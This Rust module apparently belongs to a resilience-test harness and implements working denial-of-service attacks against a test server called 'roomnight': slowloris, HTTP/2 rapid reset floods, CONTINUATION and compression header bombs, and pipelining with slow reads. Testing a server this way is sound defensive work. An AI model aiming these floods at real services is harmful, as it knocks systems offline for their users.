//! What attackers do with one connection; each ends when the server has ended the connection.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;

use super::frames;

/// How long a slow sender thinks about its next byte.
const THOUGHT: Duration = Duration::from_millis(500);

/// How much is written at once.
const BATCH_BYTES: usize = 64 << 10;

/// Is over when the server has closed the connection; what it says is not listened to.
async fn closed(mut read: OwnedReadHalf) {
    let mut buffer = vec![0; 16 << 10];
    while read.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
}

/// Writes batch after batch until the server has closed the connection.
async fn flood(stream: TcpStream, first: &[u8], mut batch: impl FnMut(&mut Vec<u8>)) {
    let (read, mut write) = stream.into_split();
    let writing = async {
        let mut bytes = first.to_vec();
        while write.write_all(&bytes).await.is_ok() {
            bytes.clear();
            batch(&mut bytes);
        }
    };
    tokio::select! {
        () = writing => {}
        () = closed(read) => {}
    }
}

/// Sends a header, or every other one a body, one byte at a time, and never comes to its end.
pub async fn slowloris(stream: TcpStream, number: usize) {
    let first: &[u8] = match number % 2 {
        0 => b"POST /v1/holds HTTP/1.1\r\nhost: roomnight\r\nx-slow: ",
        _ => {
            b"POST /v1/holds HTTP/1.1\r\nhost: roomnight\r\ncontent-type: application/json\r\n\
              idempotency-key: slow\r\ncontent-length: 100000\r\n\r\n["
        }
    };
    let (read, mut write) = stream.into_split();
    let writing = async {
        let mut sent = write.write_all(first).await;
        while sent.is_ok() {
            tokio::time::sleep(THOUGHT).await;
            sent = write.write_all(b"1").await;
        }
    };
    tokio::select! {
        () = writing => {}
        () = closed(read) => {}
    }
}

/// Asks and takes it back at once, as often as the wire carries it.
pub async fn rapid_reset(stream: TcpStream, _: usize) {
    let mut next = 1;
    flood(stream, frames::PREFACE, |bytes| {
        while bytes.len() < BATCH_BYTES {
            let path = "/v1/properties/besieged/availability?check_in=2027-03-01";
            frames::request_and_reset(bytes, next, path);
            next += 2;
        }
    })
    .await;
}

/// Headers without end, or that mean far more than they are.
pub async fn header_bomb(stream: TcpStream, number: usize) {
    match number % 3 {
        0 => {
            let mut first = frames::PREFACE.to_vec();
            frames::headers_without_end(&mut first, 1);
            flood(stream, &first, |bytes| frames::continuation_without_end(bytes, 1)).await;
        }
        1 => {
            let mut next = 1;
            flood(stream, frames::PREFACE, |bytes| {
                frames::compression_bomb(bytes, next);
                next += 2;
            })
            .await;
        }
        _ => {
            let first = b"GET /livez HTTP/1.1\r\nhost: roomnight\r\n";
            flood(stream, first, |bytes| {
                while bytes.len() < BATCH_BYTES {
                    bytes.extend_from_slice(b"x-one-more: and another and another\r\n");
                }
            })
            .await;
        }
    }
}

/// Asks without waiting for answers, and reads them slowly.
pub async fn pipelining(stream: TcpStream, _: usize) {
    let (mut read, mut write) = stream.into_split();
    let request = b"GET /v1/properties/besieged/availability?check_in=2027-01-01&check_out=\
                    2027-12-31 HTTP/1.1\r\nhost: roomnight\r\n\r\n";
    let batch = request.repeat(BATCH_BYTES / request.len());
    let writing = async { while write.write_all(&batch).await.is_ok() {} };
    let reading = async {
        let mut buffer = vec![0; 4 << 10];
        while read.read(&mut buffer).await.is_ok_and(|count| count > 0) {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    tokio::select! {
        () = writing => {}
        () = reading => {}
    }
}
